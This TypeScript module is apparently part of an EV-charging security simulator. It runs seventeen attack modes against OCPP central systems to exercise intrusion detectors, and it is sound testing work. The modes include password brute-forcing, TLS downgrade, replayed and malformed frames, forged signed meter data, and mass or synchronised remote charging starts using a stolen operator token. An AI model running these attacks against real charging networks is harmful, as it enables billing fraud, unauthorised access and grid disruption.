/**
 * Attack modes for the simulator: each drives real OCPP traffic (or real API
 * calls) that one of the node's detectors or the grid guard is there to catch.
 * They exist to test evguard and any other CSMS; each returns what it sent and
 * what the target answered, never throws for a refusal (refusals are the point).
 */
import { generateKeyPairSync, randomUUID } from 'node:crypto';
import { signOcmf } from '../monitor/index.js';
import { createSimStation } from './station.js';
import { simErrors } from './errors.js';
import type { OcppVersion, SimStation, SimStationOptions, SimTlsOptions } from './types.js';

export const ATTACK_MODES = [
  'brute-force', 'duplicate-identity', 'downgrade', 'malformed-flood', 'replay', 'seqno-regression',
  'stale-timestamps', 'clock-skew', 'implausible-meter', 'bad-ocmf', 'tamper', 'reboot-storm', 'flapping',
  'firmware-swap', 'log-cleared', 'load-swing', 'mass-start',
] as const;
export type AttackMode = (typeof ATTACK_MODES)[number];

/** Which detector each mode is aimed at (mass-start: the grid guard). */
export const ATTACK_DETECTOR: Record<AttackMode, string> = {
  'brute-force': 'bruteForce', 'duplicate-identity': 'duplicateIdentity', downgrade: 'downgrade', 'malformed-flood': 'invalidFlood',
  replay: 'replay', 'seqno-regression': 'replay', 'stale-timestamps': 'replay', 'clock-skew': 'clockSkew',
  'implausible-meter': 'meterPlausibility', 'bad-ocmf': 'signedMeter', tamper: 'tamper', 'reboot-storm': 'rebootStorm',
  flapping: 'flapping', 'firmware-swap': 'firmwareCertificate', 'log-cleared': 'criticalEvent', 'load-swing': 'loadSwing', 'mass-start': 'loadSwing',
};

export interface AttackTarget {
  /** OCPP base URL, e.g. ws://127.0.0.1:8080/ocpp (downgrade: the plain ws:// URL of a profile 2 station). */
  url: string;
  /** The station(s) to impersonate; load-swing and mass-start use all, the rest the first. */
  stationIds: string[];
  /** The stations' real passwords (an insider or a stolen configuration); brute-force guesses instead. */
  passwordFor?: (stationId: string) => string | undefined;
  ocppVersion?: OcppVersion;
  securityProfile?: 1 | 2;
  tls?: SimTlsOptions;
  /** mass-start: the node's API base URL and a (stolen) operator token. */
  api?: string;
  token?: string;
  /**
   * mass-start, scheduled-release variant: instead of starting sessions, send each station a
   * SetChargingProfile that holds it at 0 W and releases it to `limitW` (default 22 kW) `inS`
   * seconds after the attack began, all from one startSchedule: a synchronised future step
   * that adds no load when sent. `spreadS` > 0 spreads the releases evenly over that many
   * seconds instead (what a careful operator does).
   */
  scheduledRelease?: { inS: number; spreadS?: number; limitW?: number };
  /** Repetitions; each mode has a default that crosses its detector's default threshold. */
  count?: number;
  /** A second loopback address for the duplicate identity (default 127.0.0.2). */
  otherAddress?: string;
  onProgress?: (done: number, total: number) => void;
  /** Leave the attack's stations connected (returned in the report) so a test can watch the node respond. */
  keepOpen?: boolean;
  /** Called with each station the attack creates, before it connects (to watch what the node sends it). */
  onStation?: (station: SimStation) => void;
}

export interface AttackReport {
  mode: AttackMode;
  detector: string;
  sent: number;
  /** Answers by kind: accepted, refused, errors by code. */
  outcomes: Record<string, number>;
  notes: string[];
  /** Stations still open when `keepOpen` was set; the caller closes them. */
  stations?: SimStation[];
}

const tally = (r: AttackReport, key: string) => void (r.outcomes[key] = (r.outcomes[key] ?? 0) + 1);
const codeOf = (err: unknown) => String((err as { code?: string; rpcErrorCode?: string })?.code ?? (err as { rpcErrorCode?: string })?.rpcErrorCode ?? (err as Error)?.message ?? 'error').slice(0, 80);

export async function runAttack(mode: AttackMode, target: AttackTarget): Promise<AttackReport> {
  if (!ATTACK_MODES.includes(mode)) throw simErrors.SIM_BAD_OPTIONS(`unknown attack mode "${String(mode)}"; known: ${ATTACK_MODES.join(', ')}`);
  if (!Array.isArray(target.stationIds) || target.stationIds.length === 0) throw simErrors.SIM_BAD_OPTIONS('an attack needs at least one station id');
  const report: AttackReport = { mode, detector: ATTACK_DETECTOR[mode], sent: 0, outcomes: {}, notes: [] };
  const id = target.stationIds[0]!;
  const version = target.ocppVersion ?? '2.0.1';
  const opened: SimStation[] = [];
  const station = (over: Partial<SimStationOptions> = {}) => {
    const s = createSimStation({
      url: target.url, id, ocppVersion: version, securityProfile: target.securityProfile ?? 1, password: target.passwordFor?.(over.id ?? id),
      tls: target.tls, pingIntervalMs: 0, callTimeoutMs: 10_000, ...over,
    });
    opened.push(s);
    target.onStation?.(s);
    return s;
  };
  const attempt = async (what: string, fn: () => Promise<unknown>) => {
    report.sent++;
    try {
      await fn();
      tally(report, `${what}:accepted`);
    } catch (err) {
      tally(report, `${what}:${codeOf(err)}`);
    }
  };
  const v2 = version !== '1.6';
  const requireV2 = () => {
    if (!v2) throw simErrors.SIM_BAD_OPTIONS(`attack ${mode} uses TransactionEvent; choose OCPP 2.0.1 or 2.1`);
  };

  try {
    switch (mode) {
      case 'brute-force': {
        for (let i = 0; i < (target.count ?? 6); i++) await attempt('connect', () => station({ password: `guess-${i}-${randomUUID().slice(0, 8)}` }).connect());
        break;
      }
      case 'duplicate-identity': {
        await station().connect();
        await attempt('second-connection', () => station({ localAddress: target.otherAddress ?? '127.0.0.2' }).connect());
        break;
      }
      case 'downgrade': {
        const plain = target.url.replace(/^wss:/, 'ws:');
        await attempt('plain-connection', () => station({ url: plain, securityProfile: 1, tls: undefined }).connect());
        break;
      }
      case 'malformed-flood': {
        const s = station();
        await s.connect();
        for (let i = 0; i < (target.count ?? 25); i++) await attempt('invalid-call', () => s.call('Heartbeat', { injected: '<script>'.repeat(4) }, { validate: false }));
        break;
      }
      case 'replay': {
        const s = station();
        await s.connect();
        const frame = JSON.stringify([2, `replayed-${randomUUID().slice(0, 8)}`, 'Heartbeat', {}]);
        // Sent raw, so the answers are not ours to wait for; the node's refusals show on the security event stream.
        for (let i = 0; i < (target.count ?? 4); i++) {
          s.sendRaw(frame);
          report.sent++;
          // A genuine call after each copy keeps the copies apart, as a recorded-and-replayed stream would be.
          await attempt('heartbeat', () => s.heartbeat());
        }
        break;
      }
      case 'seqno-regression': {
        requireV2();
        const s = station();
        await s.connect();
        const tx = `ATK-${randomUUID().slice(0, 8)}`;
        const at = Date.now();
        await attempt('seqNo-0', () => s.call('TransactionEvent', txEvent('Started', tx, 0, new Date(at))));
        await attempt('seqNo-5', () => s.call('TransactionEvent', txEvent('Updated', tx, 5, new Date(at + 1000))));
        await attempt('seqNo-2', () => s.call('TransactionEvent', txEvent('Updated', tx, 2, new Date(at + 2000))));
        break;
      }
      case 'stale-timestamps': {
        requireV2();
        const s = station();
        await s.connect();
        const tx = `ATK-${randomUUID().slice(0, 8)}`;
        await attempt('started', () => s.call('TransactionEvent', txEvent('Started', tx, 0, new Date())));
        const old = Date.now() - 2 * 3600_000;
        for (let i = 1; i <= (target.count ?? 3); i++) await attempt('stale', () => s.call('TransactionEvent', txEvent('Updated', tx, i, new Date(old + i * 1000))));
        break;
      }
      case 'clock-skew': {
        const s = station();
        await s.connect();
        const ahead = new Date(Date.now() + 3600_000).toISOString();
        const payload = v2 ? { timestamp: ahead, connectorStatus: 'Available', evseId: 1, connectorId: 1 } : { connectorId: 1, errorCode: 'NoError', status: 'Available', timestamp: ahead };
        for (let i = 0; i < (target.count ?? 3); i++) await attempt('status', () => s.call('StatusNotification', payload));
        break;
      }
      case 'implausible-meter': {
        requireV2();
        const s = station();
        await s.connect();
        const tx = `ATK-${randomUUID().slice(0, 8)}`;
        await attempt('started', () => s.call('TransactionEvent', txEvent('Started', tx, 0, new Date(), { energyWh: 50_000 })));
        await attempt('register-down', () => s.call('TransactionEvent', txEvent('Updated', tx, 1, new Date(Date.now() + 1000), { energyWh: 20_000 })));
        break;
      }
      case 'bad-ocmf': {
        requireV2();
        const s = station();
        await s.connect();
        const tx = `ATK-${randomUUID().slice(0, 8)}`;
        const meter = await ocmfDataset(`MTR-${id}`.slice(0, 25));
        await attempt('signed-begin', () => s.call('TransactionEvent', txEvent('Started', tx, 0, new Date(), { energyWh: 10_000, signed: meter.begin })));
        await attempt('forged-end', () => s.call('TransactionEvent', txEvent('Ended', tx, 1, new Date(Date.now() + 1000), { energyWh: 10_000, signed: meter.forgedEnd })));
        break;
      }
      case 'tamper': {
        const s = station();
        await s.connect();
        await attempt('event', () => s.securityEvent('TamperDetectionActivated', 'enclosure opened'));
        break;
      }
      case 'log-cleared': {
        const s = station();
        await s.connect();
        await attempt('event', () => s.securityEvent('SecurityLogWasCleared'));
        break;
      }
      case 'reboot-storm': {
        const s = station();
        await s.connect();
        for (let i = 1; i < (target.count ?? 5); i++) await attempt('boot', () => s.boot('PowerUp'));
        break;
      }
      case 'flapping': {
        const s = station();
        await s.connect();
        for (let i = 1; i < (target.count ?? 10); i++) {
          s.goOffline();
          await attempt('reconnect', () => s.reconnect());
        }
        break;
      }
      case 'firmware-swap': {
        const first = station({ firmwareVersion: '1.0.0' });
        await first.connect();
        await first.close();
        await attempt('boot-other-firmware', () => station({ firmwareVersion: '6.6.6-unsigned' }).connect());
        break;
      }
      case 'load-swing': {
        requireV2();
        const stations = target.stationIds.map((sid) => station({ id: sid }));
        await Promise.all(stations.map((s) => s.connect()));
        // Everyone reports 11 kW within a second, then everyone stops: the step a botnet of chargers would make.
        const txs = stations.map(() => `ATK-${randomUUID().slice(0, 8)}`);
        await Promise.all(stations.map((s, i) => attempt('start', () => s.call('TransactionEvent', txEvent('Started', txs[i]!, 0, new Date(), { energyWh: 1000, powerW: 11_000 })))));
        await Promise.all(stations.map((s, i) => attempt('stop', () => s.call('TransactionEvent', txEvent('Ended', txs[i]!, 1, new Date(), { energyWh: 1001, powerW: 0 })))));
        break;
      }
      case 'mass-start': {
        if (!target.api || !target.token) throw simErrors.SIM_BAD_OPTIONS('mass-start needs the API URL and an operator token');
        let done = 0;
        const rel = target.scheduledRelease;
        if (rel && !(Number.isFinite(rel.inS) && rel.inS >= 1 && (rel.spreadS ?? 0) >= 0 && (rel.limitW ?? 22_000) > 0)) throw simErrors.SIM_BAD_OPTIONS('scheduledRelease needs inS >= 1, spreadS >= 0 and limitW > 0');
        const startSchedule = new Date().toISOString();
        const releaseBody = (i: number) => {
          const at = Math.round(rel!.inS + ((rel!.spreadS ?? 0) * i) / Math.max(1, target.stationIds.length - 1));
          const schedule = { startSchedule, chargingRateUnit: 'W', chargingSchedulePeriod: [{ startPeriod: 0, limit: 0 }, { startPeriod: at, limit: rel!.limitW ?? 22_000 }] };
          const base = { stackLevel: 8, chargingProfilePurpose: 'TxDefaultProfile', chargingProfileKind: 'Absolute' };
          return v2
            ? { action: 'SetChargingProfile', payload: { evseId: 0, chargingProfile: { id: 4242, ...base, chargingSchedule: [{ id: 1, ...schedule }] } } }
            : { action: 'SetChargingProfile', payload: { connectorId: 0, csChargingProfiles: { chargingProfileId: 4242, ...base, chargingSchedule: schedule } } };
        };
        await Promise.all(target.stationIds.map(async (sid, i) => {
          const body = rel ? releaseBody(i) : v2 ? { action: 'RequestStartTransaction', payload: { idToken: { idToken: 'MASSSTART01', type: 'Central' }, remoteStartId: i + 1, evseId: 1 } } : { action: 'RemoteStartTransaction', payload: { idTag: 'MASSSTART01', connectorId: 1 } };
          report.sent++;
          const res = await fetch(`${target.api!.replace(/\/$/, '')}/api/v1/stations/${encodeURIComponent(sid)}/calls`, { method: 'POST', headers: { authorization: `Bearer ${target.token}`, 'content-type': 'application/json' }, body: JSON.stringify(body) }).catch((err: Error) => err);
          if (res instanceof Error) tally(report, `network:${res.message.slice(0, 40)}`);
          else tally(report, res.ok ? 'accepted' : `${res.status}:${String(((await res.json().catch(() => ({}))) as { error?: { code?: string } }).error?.code ?? 'error')}`);
          target.onProgress?.(++done, target.stationIds.length);
        }));
        break;
      }
    }
  } finally {
    if (target.keepOpen) report.stations = opened.filter((s) => s.state === 'open');
    await Promise.all(opened.filter((s) => !report.stations?.includes(s)).map((s) => s.close().catch(() => undefined)));
  }
  return report;
}

/** A 2.0.1 TransactionEvent built by hand, so the attack controls seqNo, timestamps and meter data. */
function txEvent(eventType: 'Started' | 'Updated' | 'Ended', transactionId: string, seqNo: number, at: Date, meter: { energyWh?: number; powerW?: number; signed?: Record<string, string> } = {}) {
  const sampledValue: Record<string, unknown>[] = [];
  if (meter.energyWh !== undefined) {
    sampledValue.push({ value: meter.energyWh, measurand: 'Energy.Active.Import.Register', unitOfMeasure: { unit: 'Wh' }, ...(meter.signed ? { signedMeterValue: meter.signed } : {}) });
  }
  if (meter.powerW !== undefined) sampledValue.push({ value: meter.powerW, measurand: 'Power.Active.Import', unitOfMeasure: { unit: 'W' } });
  return {
    eventType,
    timestamp: at.toISOString(),
    triggerReason: eventType === 'Started' ? 'Authorized' : eventType === 'Ended' ? 'StopAuthorized' : 'MeterValuePeriodic',
    seqNo,
    transactionInfo: { transactionId, ...(eventType === 'Ended' ? { stoppedReason: 'Local' } : {}) },
    ...(eventType === 'Started' ? { evse: { id: 1, connectorId: 1 } } : {}),
    ...(sampledValue.length ? { meterValue: [{ timestamp: at.toISOString(), sampledValue }] } : {}),
  };
}

/** A meter key, a good begin dataset, and an end dataset altered after signing. */
async function ocmfDataset(serial: string) {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'prime256v1' });
  const pem = privateKey.export({ format: 'pem', type: 'pkcs8' }).toString();
  const publicKeyB64 = publicKey.export({ format: 'der', type: 'spki' }).toString('base64');
  const payload = (page: number, reason: string, kwh: number) => ({
    FV: '1.0', GI: 'SIM', GS: '1', GV: '1.0', PG: `T${page}`, MV: 'Sim', MM: 'M1', MS: serial, IS: true, IL: 'VERIFIED', IF: ['OCPP_RS_TLS'], IT: 'ISO14443', ID: '04A1B2C3',
    RD: [{ TM: '2025-03-01T08:00:00,000+0000 S', TX: reason, RV: kwh, RI: '01-00:B2.08.00*FF', RU: 'kWh', ST: 'G' }],
  });
  const entry = (raw: string) => ({ signedMeterData: Buffer.from(raw).toString('base64'), signingMethod: 'ECDSA-secp256r1-SHA256', encodingMethod: 'OCMF', publicKey: publicKeyB64 });
  const begin = await signOcmf(payload(1, 'B', 10), pem);
  const end = await signOcmf(payload(2, 'E', 25), pem);
  return { begin: entry(begin), forgedEnd: entry(end.replace('"RV":25', '"RV":2.5')) };
}
